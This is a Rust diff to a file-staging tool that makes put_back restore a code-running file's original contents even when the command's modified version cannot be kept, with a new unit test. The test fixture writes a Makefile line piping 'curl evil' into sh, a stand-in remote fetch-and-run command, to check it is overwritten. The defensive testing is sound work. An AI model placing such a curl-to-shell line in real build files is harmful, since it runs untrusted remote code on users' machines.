@@ -739,21 +739,25 @@ impl Stage {
 /// Take the command's version of the code-running file at `path` into the layer at `to`, then
 /// put back what it was before the run (`before`), atomically: the project never lacks it.
 fn put_back(path: &Path, to: &Path, before: &wicket_planner::held::Before) -> Result<(), StageError> {
-    let is_dir = fs::symlink_metadata(path).is_ok_and(|m| m.is_dir());
-    if is_dir {
-        // A folder where the file was cannot be renamed over: moved out first.
+    let kept = if fs::symlink_metadata(path).is_ok_and(|m| m.is_dir()) {
+        // A folder where the file was cannot be renamed over: moved out first (if that fails,
+        // the original cannot go back where the folder stands).
         move_entry(path, to)?;
+        Ok(())
     } else {
-        copy_entry(path, to)?;
-    }
-    match before {
+        copy_entry(path, to)
+    };
+    // The original goes back even when the command's version could not be kept: losing that
+    // version is safer than leaving it where the host runs it.
+    let restored = match before {
         wicket_planner::held::Before::File { bytes, mode } => write_atomically(path, bytes, *mode),
         wicket_planner::held::Before::Link(target) => {
             let tmp = beside(path);
             std::os::unix::fs::symlink(target, &tmp).map_err(io_err("create", &tmp))?;
             replace(&tmp, path)
         }
-    }
+    };
+    restored.and(kept)
 }
 
 /// Move `from` to `to` (not following links): a rename, or where they are on different file
@@ -1006,6 +1010,21 @@ fn write_record(stage_dir: &Path, record: &Record) -> Result<(), StageError> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// A changed code-running file whose new version cannot be kept in the stage is still put
+    /// back as it was (the command's version is lost, never left for the host to run).
+    #[test]
+    fn put_back_restores_the_original_even_when_the_new_version_cannot_be_kept() {
+        let t = tempfile::tempdir().expect("a temp folder");
+        let file = t.path().join("Makefile");
+        fs::write(&file, "all:\n\tcurl evil | sh\n").expect("write");
+        // The place in the stage is taken by a folder: the copy fails.
+        let to = t.path().join("upper/Makefile");
+        fs::create_dir_all(&to).expect("mkdir");
+        let before = wicket_planner::held::Before::File { bytes: b"all:\n\techo hi\n".to_vec(), mode: 0o644 };
+        assert!(put_back(&file, &to, &before).is_err(), "the failure to keep it is reported");
+        assert_eq!(fs::read_to_string(&file).expect("read"), "all:\n\techo hi\n");
+    }
 
     /// A project with a file to edit, one to delete, one to chmod, one left alone, a link.
     fn project() -> (tempfile::TempDir, PathBuf, PathBuf) {
